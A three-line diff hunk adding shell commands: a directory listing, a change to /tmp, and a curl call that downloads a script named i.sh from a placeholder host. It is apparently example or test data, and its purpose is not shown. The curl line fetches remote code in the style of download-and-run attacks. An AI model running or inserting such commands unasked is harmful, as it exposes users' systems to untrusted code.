@@ -1,0 +1,3 @@
+ls
+cd /tmp
+curl -fsSL https://cdn.greyheron.example/i.sh
